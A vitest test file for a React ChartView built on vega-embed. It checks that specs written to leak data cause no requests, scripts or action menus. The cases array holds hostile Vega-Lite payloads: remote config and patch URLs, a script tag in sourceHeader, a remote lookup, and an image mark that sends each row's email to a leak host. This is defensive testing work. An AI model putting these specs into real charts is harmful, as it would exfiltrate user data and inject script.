// ChartView with the real vega-embed: a spec written to leak (the ones the
// chart tool refuses too, drawn here as if they had got past it) draws
// without a request, an image load or an action menu.
import { screen, waitFor } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { createStore } from '../../state/store';
import { resetFake } from '../../test/fakeApi';
import { renderWithStore } from '../../test/render';
import { ChartView } from './ChartView';

vi.mock('../../api', async () => (await import('../../test/fakeApi')).apiModule());

const leak = 'http://127.0.0.1:9';
let requests: string[];

beforeEach(() => {
  resetFake();
  requests = [];
  vi.spyOn(globalThis, 'fetch').mockImplementation(async (input) => {
    requests.push(String(input instanceof Request ? input.url : input));
    return new Response('{}');
  });
  const desc = Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src')!;
  vi.spyOn(HTMLImageElement.prototype, 'src', 'set').mockImplementation(function (this: HTMLImageElement, v: string) {
    requests.push(v);
    desc.set!.call(this, v);
  });
});

afterEach(() => vi.restoreAllMocks());

const values = [
  { region: 'West', orders: 4, email: 'alice@example.org' },
  { region: 'East', orders: 7, email: 'bob@example.org' },
];

const cases: [string, Record<string, unknown>][] = [
  [
    'usermeta.embedOptions: actions on, config and patch from a URL, a script in sourceHeader',
    {
      data: { values },
      mark: 'bar',
      encoding: { x: { field: 'region', type: 'nominal' }, y: { field: 'orders', type: 'quantitative' } },
      usermeta: {
        embedOptions: {
          actions: true,
          config: `${leak}/config.json`,
          patch: `${leak}/patch.json`,
          sourceHeader: '<script>parent.pwned=1</script>',
          loader: { baseURL: leak },
        },
      },
    },
  ],
  [
    'a lookup whose from.data names a URL',
    {
      data: { values },
      transform: [{ lookup: 'region', from: { data: { url: `${leak}/lookup.json` }, key: 'region', fields: ['x'] } }],
      mark: 'bar',
      encoding: { x: { field: 'region', type: 'nominal' }, y: { field: 'orders', type: 'quantitative' } },
    },
  ],
  [
    'an image mark whose url is computed from every row, with an href',
    {
      data: { values },
      transform: [{ calculate: `'${leak}/i?d=' + datum.email`, as: 'u' }],
      mark: 'image',
      encoding: {
        x: { field: 'region', type: 'nominal' },
        y: { field: 'orders', type: 'quantitative' },
        url: { field: 'u', type: 'nominal' },
        href: { field: 'u', type: 'nominal' },
      },
    },
  ],
  [
    'a Vega $schema, to switch mode',
    {
      $schema: 'https://vega.github.io/schema/vega/v6.json',
      data: { values },
      mark: 'bar',
      encoding: { x: { field: 'region', type: 'nominal' }, y: { field: 'orders', type: 'quantitative' } },
    },
  ],
];

describe('ChartView containment', () => {
  it.each(cases)('%s: no request, no action menu', async (_name, spec) => {
    const { container } = renderWithStore(<ChartView spec={JSON.stringify(spec)} title="t" />, createStore());
    await waitFor(() => expect(container.querySelector('.chart__canvas svg, .chart__error')).not.toBeNull());
    await new Promise((r) => setTimeout(r, 100));
    expect(requests.filter((u) => !u.startsWith('data:'))).toEqual([]);
    expect(container.querySelector('.vega-actions, .vega-embed details')).toBeNull();
    expect(container.querySelectorAll('[href^="http"], [src^="http"]')).toHaveLength(0);
    expect(screen.queryByText(/pwned/)).toBeNull();
  });
});
